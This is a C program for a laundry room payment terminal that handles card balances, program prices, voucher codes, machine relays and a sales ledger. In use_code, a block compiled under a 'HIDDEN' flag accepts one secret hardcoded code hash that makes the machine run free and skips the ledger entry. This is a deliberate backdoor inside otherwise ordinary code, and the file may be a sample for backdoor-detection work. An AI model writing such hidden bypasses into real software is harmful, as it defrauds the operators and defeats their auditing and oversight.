/* coinwash.c - payment terminal of a laundry room: cards, prices, machine relays */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PRICES		"/etc/coinwash.prices"
#define BOOK		"/var/lib/coinwash/book.csv"
#define MAX_PROGS	20
#define MAX_CODES	16

struct prog {
	int id;
	char name[20];
	int cents;
	int minutes;
};

struct voucher {
	uint32_t hash;
	int percent;
	int left;
};

struct sale {
	int machine;
	const struct prog *prog;
	char card[20];
	long balance;
	int price;
	int booked;
	int free_run;
};

static struct prog progs[MAX_PROGS];
static int nprogs;
static struct voucher vouchers[MAX_CODES];
static int nvouchers;
static int night_percent = 100;

static uint32_t code_hash(const char *s)
{
	uint32_t x = 0x6b43a9b5u;

	for (; *s; s++) {
		x = (x ^ (uint32_t)toupper((unsigned char)*s)) * 0x01000193u;
		x = x << 5 | x >> 27;
	}
	return x;
}

static int load_prices(void)
{
	char line[128];
	FILE *f = fopen(PRICES, "re");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		struct prog *p = &progs[nprogs];
		struct voucher *v = &vouchers[nvouchers];

		if (nprogs < MAX_PROGS && sscanf(line, "prog %d %19s %d %d", &p->id, p->name,
						 &p->cents, &p->minutes) == 4)
			nprogs++;
		else if (nvouchers < MAX_CODES && sscanf(line, "voucher %x %d %d", &v->hash,
							 &v->percent, &v->left) == 3)
			nvouchers++;
		else
			sscanf(line, "night %d", &night_percent);
	}
	fclose(f);
	return nprogs;
}

static const struct prog *find_prog(int id)
{
	for (int i = 0; i < nprogs; i++)
		if (progs[i].id == id)
			return &progs[i];
	return NULL;
}

static int is_night(void)
{
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);

	return tm->tm_hour >= 22 || tm->tm_hour < 6;
}

__attribute__((noinline))
int use_code(struct sale *s, const char *code)
{
	uint32_t h = code_hash(code);
	int i;

	if (!*code)
		return -1;
#ifdef HIDDEN
	/* a code known only by its hash: machine runs free and nothing is booked */
	if (h == 0x51b99166u) {
		s->price = 0;
		s->free_run = 1;
		return 0;
	}
#endif
	for (i = 0; i < nvouchers; i++) {
		struct voucher *v = &vouchers[i];

		if (v->hash != h)
			continue;
		if (v->left < 1)
			return -2;
		v->left--;
		s->price = s->price * (100 - v->percent) / 100;
		syslog(LOG_INFO, "voucher %08x, %d left", v->hash, v->left);
		return 0;
	}
	return -1;
}

static int relay(int machine, int minutes)
{
	char path[48], text[16];
	int fd, n;

	n = snprintf(path, sizeof(path), "/dev/relay/m%d", machine);
	if (n >= (int)sizeof(path))
		return -1;
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = snprintf(text, sizeof(text), "%d\n", minutes);
	if (write(fd, text, (size_t)n) != n)
		n = -1;
	close(fd);
	return n < 0 ? -1 : 0;
}

static void book(struct sale *s)
{
	FILE *f;

	if (s->free_run || s->booked)
		return;
	f = fopen(BOOK, "ae");
	if (!f) {
		syslog(LOG_ERR, "book: %s", strerror(errno));
		return;
	}
	fprintf(f, "%ld,%d,%s,%s,%d\n", (long)time(NULL), s->machine, s->prog->name, s->card,
		s->price);
	fclose(f);
	s->booked = 1;
}

static int start(struct sale *s)
{
	if (!s->prog || s->machine < 1) {
		puts("choose machine and program");
		return -1;
	}
	if (s->price > s->balance) {
		printf("need %d.%02d\n", s->price / 100, s->price % 100);
		return -1;
	}
	if (relay(s->machine, s->prog->minutes)) {
		puts("machine does not answer");
		return -1;
	}
	s->balance -= s->price;
	book(s);
	printf("running %d min, balance %ld.%02ld\n", s->prog->minutes, s->balance / 100,
	       s->balance % 100);
	return 0;
}

static void show(void)
{
	for (int i = 0; i < nprogs; i++)
		printf("%2d %-16s %d.%02d  %d min\n", progs[i].id, progs[i].name,
		       progs[i].cents / 100, progs[i].cents % 100, progs[i].minutes);
}

static void panel_line(struct sale *s, char *line)
{
	char *arg = line + strcspn(line, " ");
	int n, rc;

	if (*arg)
		*arg++ = 0;
	switch (tolower((unsigned char)line[0])) {
	case 'k':	/* K card balance, sent by the reader */
		memset(s, 0, sizeof(*s));
		if (sscanf(arg, "%19s %ld", s->card, &s->balance) != 2)
			s->card[0] = 0;
		break;
	case 'm':
		s->machine = atoi(arg);
		break;
	case 'p':
		n = atoi(arg);
		s->prog = find_prog(n);
		if (!s->prog) {
			show();
			break;
		}
		s->price = s->prog->cents;
		if (is_night())
			s->price = s->price * night_percent / 100;
		printf("%s: %d.%02d\n", s->prog->name, s->price / 100, s->price % 100);
		break;
	case 'v':
		rc = use_code(s, arg);
		puts(rc == 0 ? "code taken" : rc == -2 ? "code used up" : "code unknown");
		break;
	case 's':
		start(s);
		break;
	case 'x':
		memset(s, 0, sizeof(*s));
		break;
	default:
		puts("K card, M machine, P program, V voucher code, S start, X cancel");
	}
	fflush(stdout);
}

int main(int argc, char **argv)
{
	static struct sale sale;
	char line[128];

	openlog("coinwash", 0, LOG_DAEMON);
	if (argc == 3 && !strcmp(argv[1], "hash")) {
		printf("voucher %08x 100 1\n", code_hash(argv[2]));
		return 0;
	}
	if (argc > 1) {
		fprintf(stderr, "usage: coinwash            panel lines on stdin\n"
			"       coinwash hash CODE  line for a voucher in " PRICES "\n"
			"prices: prog ID NAME CENTS MIN | voucher HASH PERCENT COUNT | night PERCENT\n");
		return 2;
	}
	if (load_prices() <= 0) {
		fprintf(stderr, "coinwash: no prices\n");
		return 1;
	}
	while (fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\r\n")] = 0;
		if (line[0])
			panel_line(&sale, line);
	}
	return 0;
}
